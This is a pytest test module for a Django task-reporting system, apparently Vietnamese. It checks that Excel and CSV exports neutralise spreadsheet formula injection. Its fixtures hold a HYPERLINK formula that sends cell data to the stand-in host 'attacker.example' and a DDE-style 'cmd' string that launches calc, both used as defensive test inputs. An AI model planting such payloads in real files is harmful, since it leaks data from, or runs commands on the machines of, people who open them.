"""Formula injection (issue 16): what officers type never becomes a live formula in the files we hand out.

The attack: an officer's report reads `=HYPERLINK("http://attacker.example/leak?"&F5&F6,"Xem chi tiết")`, or a
task title starts with `=`, `+`, `-` or `@`; the standing office opens an export and the spreadsheet runs it.
Each file is downloaded through its real view, as its real reader would (the generated documents through their
background job: asked for, made by the worker, downloaded from the job's page), and read back with openpyxl: no
cell is a formula, the text is there exactly as typed, and text that starts like a formula carries Excel's
quote prefix (so it stays text even when edited). The public CSV prefixes such text with a `'`.
"""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from giamsat.common.spreadsheets import csv_cell, sheet_append, starts_like_formula
from giamsat.directives.choices import Confidentiality
from giamsat.directives.tests.factories import task_led_by
from giamsat.documents.tests.jobflow import fetch
from giamsat.jobs.models import Job
from giamsat.reporting import services
from giamsat.reporting.models import ProgressReport

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://attacker.example/leak?"&F5&F6,"Xem chi tiết")'
TITLES = [
    "=1+1 Triển khai nền tảng số",
    "+cmd|' /C calc'!A0 Ứng dụng trí tuệ nhân tạo",
    "-2+3 Đào tạo nhân lực số",
    "@SUM(1+1) Phát triển hạ tầng 5G",
]  # titles are stored without leading spaces (Task.save); reports keep them
REPORT_TEXTS = {
    "work_done": PAYLOAD,
    "product": PAYLOAD,
    "difficulties": " -2+3 Thiếu kinh phí",  # after a space
    "proposals": "\t@SUM(1+1) Đề nghị gia hạn",  # after a tab
}


@pytest.fixture
def attack(users, agency_skhcn):
    """Public tasks led by the officer's agency with formula-like titles, and one task whose report carries
    the HYPERLINK payload: sent, approved, accepted and its product published on the portal."""
    tasks = [task_led_by(agency_skhcn, confidentiality=Confidentiality.PUBLIC, title=title) for title in TITLES]
    reported = task_led_by(agency_skhcn, confidentiality=Confidentiality.PUBLIC, title="Nhiệm vụ có báo cáo")
    period = services.period_for(timezone.localdate())
    report = services.report_save_draft(
        task=reported,
        period=period,
        data={"state": "in_progress", "progress_percent": 40, **REPORT_TEXTS},
        acting_user=users["officer"],
    )
    services.report_submit(report=report, acting_user=users["officer"])
    services.report_approve(report=ProgressReport.objects.get(pk=report.pk), acting_user=users["head"])
    report = ProgressReport.objects.get(pk=report.pk)
    services.report_review(report=report, decision="accepted", comment="", acting_user=users["standing_office"])
    services.report_publish(
        report=ProgressReport.objects.get(pk=report.pk),
        result_public=True,
        evidence_public_ids=set(),
        acting_user=users["standing_office"],
    )
    return [*tasks, reported]


def content(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_formula(data: bytes, expected: list[str]) -> None:
    """No cell of any sheet is a formula; each expected text is in a cell exactly as typed; every text cell
    that starts like a formula is quote-prefixed."""
    workbook = load_workbook(io.BytesIO(data))
    texts = set()
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if starts_like_formula(cell.value):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    missing = [text for text in expected if text not in texts]
    assert not missing


class TaskExportTests:
    @pytest.mark.parametrize("who", ["standing_office", "officer"])
    def test_titles_and_reports_stay_text(self, client, users, attack, run_jobs, who):
        client.force_login(users[who])
        data = fetch(client, run_jobs, reverse("documents:task_list_export")).content
        assert_no_formula(data, [*TITLES, PAYLOAD])

    def test_dates_and_numbers_stay_dates_and_numbers(self, client, users, attack, run_jobs):
        client.force_login(users["standing_office"])
        ws = load_workbook(io.BytesIO(fetch(client, run_jobs, reverse("documents:task_list_export")).content)).active
        row = next(r for r in ws.iter_rows(min_row=4) if r[5].value == "Nhiệm vụ có báo cáo")
        assert row[8].value == datetime.datetime(2026, 6, 30)  # Thời hạn: a date cell
        assert row[8].number_format == "DD/MM/YYYY" and not row[8].quotePrefix
        assert row[14].value == 40 and row[14].data_type == "n"  # Tiến độ (%)
        assert row[15].value == PAYLOAD and row[15].quotePrefix  # Kết quả thực hiện, as typed


class MonthlyAppendixTests:
    def test_titles_and_reports_stay_text(self, client, users, attack, run_jobs):
        client.force_login(users["standing_office"])
        today = timezone.localdate()
        fetched = fetch(
            client,
            run_jobs,
            reverse("documents:monthly_report"),
            {"month": f"{today.year}-{today.month:02d}", "as_of": today.strftime("%d/%m/%Y"), "format": "xlsx"},
        )
        assert_no_formula(fetched.content, [*TITLES, PAYLOAD])


class BulkTemplateTests:
    def test_titles_and_reports_stay_text(self, client, users, attack):
        client.force_login(users["officer"])
        data = content(client.get(reverse("reporting:bulk_excel")))
        assert_no_formula(data, [*TITLES, *REPORT_TEXTS.values()])

    def test_a_draft_typed_as_a_formula_survives_the_round_trip(self, client, users, agency_skhcn, run_jobs):
        """Export format = import format: a formula cell has no value to read back, so the draft would be lost."""
        task = task_led_by(agency_skhcn, title=TITLES[0])
        period = services.period_for(timezone.localdate())
        services.report_save_draft(
            task=task,
            period=period,
            data={"state": "in_progress", "progress_percent": 30, "work_done": PAYLOAD},
            acting_user=users["officer"],
        )
        client.force_login(users["officer"])
        data = content(client.get(reverse("reporting:bulk_excel")))
        response = client.post(reverse("reporting:bulk_excel"), {"file": SimpleUploadedFile("bc.xlsx", data)})
        assert response.status_code == 302
        run_jobs()  # the upload is read and saved in the background
        job = Job.objects.get()
        assert (job.state, job.result_note) == ("done", "Đã lưu 1 báo cáo dự thảo từ tệp Excel.")
        report = ProgressReport.objects.get(task=task, period=period)
        assert report.work_done == PAYLOAD and report.history.count() == 2  # written again, from the file


class PublicCsvTests:
    def test_formula_like_text_is_quoted(self, client, attack):
        response = client.get(reverse("portal:open_data", args=["csv"]))
        rows = list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig"))))
        titles = {row["title"] for row in rows}
        assert {"'" + title for title in TITLES} <= titles
        assert not any(starts_like_formula(value) for row in rows for value in row.values())
        reported = next(row for row in rows if row["title"] == "Nhiệm vụ có báo cáo")
        assert reported["public_results"] == "'" + PAYLOAD  # a product without a delivery date: the line starts with it
        assert reported["deadline"] == "2026-06-30" and reported["public_evidence_count"] == "0"


class SpreadsheetCellTests:
    @pytest.mark.parametrize(
        ("text", "dangerous"),
        [
            ("=1+1", True),
            ("+1", True),
            ("-1", True),
            ("@SUM(A1)", True),
            ("\t=1", True),
            ("\r=1", True),
            ("   =1", True),
            ("\n@x", True),
            ("＝1+1", True),  # full-width equals sign
            ("Triển khai = 1", False),
            ("1-2", False),
            ("", False),
            ("'=1", False),
        ],
    )
    def test_which_text_starts_like_a_formula(self, text, dangerous):
        assert starts_like_formula(text) is dangerous
        assert csv_cell(text) == ("'" + text if dangerous else text)

    def test_numbers_dates_and_empty_cells_are_unchanged(self):
        for value in (5, -3, 2.5, datetime.date(2026, 6, 30), None):
            assert csv_cell(value) == value
        wb = Workbook()
        ws = wb.active
        sheet_append(ws, [-3, datetime.date(2026, 6, 30), None, "#N/A", "dòng\x0bmới"])
        out = io.BytesIO()
        wb.save(out)
        cells = load_workbook(io.BytesIO(out.getvalue())).active[1]
        assert [c.data_type for c in cells] == ["n", "d", "n", "s", "s"]
        assert cells[0].value == -3 and cells[2].value is None
        assert cells[3].value == "#N/A"  # typed text, not Excel's error value
        assert cells[4].value == "dòngmới"  # a control character XML cannot hold is dropped, the export is written
